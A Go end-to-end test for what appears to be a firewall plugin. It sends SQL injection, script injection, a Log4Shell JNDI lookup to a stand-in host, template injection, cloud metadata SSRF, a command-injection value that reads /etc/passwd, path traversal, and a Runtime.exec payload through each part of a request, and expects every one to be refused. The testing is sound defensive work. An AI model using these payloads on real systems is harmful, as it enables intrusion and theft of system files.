package e2e

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// attackPayloads are one of each kind a request's own content can be
// refused for, as public DAST lists write them.
var attackPayloads = []string{
	"1' OR '1'='1",
	"<script>alert(1)</script>",
	"${jndi:ldap://x.oast.example/a}",
	"{{7*7}}",
	"http://169.254.169.254/latest/meta-data/",
	"1;cat /etc/passwd",
	"../../../../etc/passwd",
	"${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
}

// attackIn puts payload into one place of a request to site for acme.
var attackIn = map[string]func(site, payload string) *http.Request{
	"query": func(site, p string) *http.Request {
		return newRequest("GET", site, "acme.localhost", "/api/items?q="+url.QueryEscape(p))
	},
	"json body": func(site, p string) *http.Request {
		r := newRequest("POST", site, "acme.localhost", "/api/items")
		body := fmt.Sprintf(`{"name":%q}`, p)
		r.Body, r.ContentLength = ioNopCloser(body), int64(len(body))
		r.Header.Set("Content-Type", "application/json")
		return r
	},
	"form body": func(site, p string) *http.Request {
		r := newRequest("POST", site, "acme.localhost", "/api/items")
		body := "name=" + url.QueryEscape(p)
		r.Body, r.ContentLength = ioNopCloser(body), int64(len(body))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		return r
	},
	"cookie": func(site, p string) *http.Request {
		return newRequest("GET", site, "acme.localhost", "/api/items", "Cookie", "session=abc; pref="+url.QueryEscape(p))
	},
	"referer": func(site, p string) *http.Request {
		return newRequest("GET", site, "acme.localhost", "/api/items", "Referer", "https://search.example/?q="+url.QueryEscape(p))
	},
	"user agent": func(site, p string) *http.Request {
		return newRequest("GET", site, "acme.localhost", "/api/items", "User-Agent", browserAgents[0]+" "+p)
	},
	"x-forwarded-host": func(site, p string) *http.Request {
		return newRequest("GET", site, "acme.localhost", "/api/items", "X-Forwarded-Host", p)
	},
}

// Each attack, sent once from an address never seen before with forged
// cross-site Fetch Metadata and a browser's user agent, is refused with
// reason attack, in every place a request carries it; its source is not
// banned for it, and its next ordinary request is served.
func TestASingleAttackIsRefusedFromANewAddress(t *testing.T) {
	in := startSite(t, behindProxy("\t\tstore file ./data"), webSite(t, "block"))
	proxy := proxyClient()
	n := 0
	for place, build := range attackIn {
		for _, p := range attackPayloads {
			n++
			src := fmt.Sprintf("198.18.%d.%d", n/200, 1+n%200)
			r := build(in.Site, p)
			r.Header.Set("X-Forwarded-For", src)
			r.Header.Set("Sec-Fetch-Site", "cross-site")
			r.Header.Set("Sec-Fetch-Mode", "no-cors")
			if r.Header.Get("User-Agent") == "" {
				r.Header.Set("User-Agent", browserAgents[n%len(browserAgents)])
			}
			resp, err := proxy.Do(r)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != 403 {
				t.Errorf("%s: %q from a new address: %d, want 403", place, p, resp.StatusCode)
			}
			next := newRequest("GET", in.Site, "acme.localhost", "/", "X-Forwarded-For", src, "User-Agent", firefox, "Accept", "text/html")
			if resp, err := proxy.Do(next); err != nil || resp.StatusCode != 200 {
				t.Fatalf("%s: the source of one attack is refused its next page: %v %v", place, resp.StatusCode, err)
			} else {
				resp.Body.Close()
			}
		}
	}
	if got := in.metric(`caddy_gatekeeper_blocked_total{reason="attack",scanner="none"}`); got == 0 {
		t.Errorf("blocked_total{reason=attack} is 0")
	}
	if got := in.metric("caddy_gatekeeper_bans_active"); got != 0 {
		t.Errorf("%v bans after single attacks; one attack never bans", got)
	}
}

func ioNopCloser(s string) *nopCloser { return &nopCloser{strings.NewReader(s)} }

type nopCloser struct{ *strings.Reader }

func (nopCloser) Close() error { return nil }
